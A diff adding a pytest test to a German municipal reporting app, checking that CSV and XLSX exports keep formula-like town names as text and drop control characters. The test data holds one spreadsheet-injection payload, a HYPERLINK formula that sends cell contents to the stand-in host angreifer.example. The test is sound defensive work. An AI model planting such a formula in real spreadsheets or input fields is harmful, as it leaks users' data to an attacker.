@@ -3,6 +3,7 @@ figures, Kurzbericht services (update, submit, review, schedule) and the evaluat
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 import zlib
@@ -419,6 +420,35 @@ def test_evaluation_rows_and_exports(coordinator, zb, municipality):
     assert data[header.index("Kosten geplant (Euro)")] == pytest.approx(2000.50)
     assert data[header.index("Maßnahmen in Umsetzung")] == 1
     assert "Erläuterungen" in workbook.sheetnames
+
+
+def test_evaluation_exports_keep_hostile_names_as_text(coordinator, zb, municipality):
+    """A town's display name is typed by people: a formula stays text in CSV and XLSX, a control
+    character (which openpyxl refuses with an error) is dropped (issue 13, defects 6 and 7)."""
+    formula = '=HYPERLINK("https://angreifer.example/?d="&A2,"Details")'
+    municipality.display_name = formula
+    municipality.save(update_fields=["display_name"])
+    (row,) = reports.evaluation_rows(year=2025)
+    row["stage"] = "Zwischen\x0bbilanz\x01"
+    csv_text = report_exports.table_csv(reports.EVALUATION_COLUMNS, [row], ["-Hinweis+1"])
+    lines = list(csv.reader(io.StringIO(csv_text.lstrip("\ufeff")), delimiter=";"))
+    values = dict(zip(lines[0], lines[1], strict=True))
+    assert values["Kommune"] == "'" + formula
+    assert lines[-1] == ["'-Hinweis+1"]
+    assert "\x0b" not in csv_text and "\x01" not in csv_text
+
+    from openpyxl import load_workbook
+
+    content = report_exports.table_xlsx(reports.EVALUATION_COLUMNS, [row], ["-Hinweis+1"], title="=T")
+    workbook = load_workbook(io.BytesIO(content))
+    sheet = workbook["Kommunen"]
+    header = [c.value for c in sheet[1]]
+    cells = dict(zip(header, sheet[2], strict=True))
+    assert (cells["Kommune"].value, cells["Kommune"].data_type) == (formula, "s")
+    assert cells["aktuelle Stufe"].value == "Zwischen\nbilanz"
+    assert (cells["Maßnahmen in Umsetzung"].value, cells["Maßnahmen in Umsetzung"].data_type) == (1, "n")
+    info = workbook["Erläuterungen"]
+    assert [(c.value, c.data_type) for c in info["A"]] == [("=T", "s"), ("-Hinweis+1", "s")]
 
 
 def test_overdue_counts_in_office_rows(coordinator, zb, municipality_factory):
